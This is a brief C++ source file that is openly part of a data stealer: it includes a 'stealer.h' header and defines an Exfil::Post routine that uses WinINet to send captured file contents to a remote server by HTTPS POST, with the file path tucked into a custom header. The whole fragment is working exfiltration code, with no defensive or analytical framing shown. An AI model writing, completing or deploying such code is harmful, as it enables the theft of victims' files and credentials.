// Everything leaves through one HTTP POST.
#include "stealer.h"

bool Exfil::Post(const std::wstring &path, const std::vector<BYTE> &data)
{
    HINTERNET req = HttpOpenRequestW(m_connect, L"POST", L"/d", NULL, NULL, NULL, INTERNET_FLAG_SECURE, 0);
    std::wstring headers = L"X-Name: " + path + L"\r\n";
    BOOL ok = HttpSendRequestW(req, headers.c_str(), (DWORD)-1, (LPVOID)data.data(), (DWORD)data.size());
    InternetCloseHandle(req);
    return ok != FALSE;
}
